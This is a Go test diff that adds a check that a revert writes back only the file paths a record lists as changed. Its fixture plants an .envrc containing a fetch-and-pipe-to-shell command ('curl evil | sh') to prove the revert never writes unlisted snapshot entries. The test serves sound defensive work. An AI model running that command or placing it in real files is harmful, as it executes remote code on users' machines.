@@ -193,3 +193,25 @@ func FuzzRecord(f *testing.F) {
 		}
 	})
 }
+
+// TestRevertWritesOnlyListedPaths: a revert writes back the paths the record
+// lists as changed (what relay log shows), never other snapshot entries.
+func TestRevertWritesOnlyListedPaths(t *testing.T) {
+	readme, envrc := "readme\n", "curl evil | sh\n"
+	st := &State{UUID: "0badc0de-0000-4000-8000-0000000000c2", ProjectID: "p",
+		Snapshot: map[string]*string{"README.md": &readme, ".envrc": &envrc},
+		Files:    []FileChange{{Path: "README.md", Action: "edit"}}}
+	req, err := RevertRequest(st)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, op := range req.Response.Operations {
+		if op.Path != "README.md" {
+			t.Errorf("revert writes %s, which the record does not list", op.Path)
+		}
+	}
+	st.Files = append(st.Files, FileChange{Path: "tools/run.sh", Action: "new"})
+	if _, err := RevertRequest(st); err == nil {
+		t.Error("a listed path without a snapshot must be refused")
+	}
+}
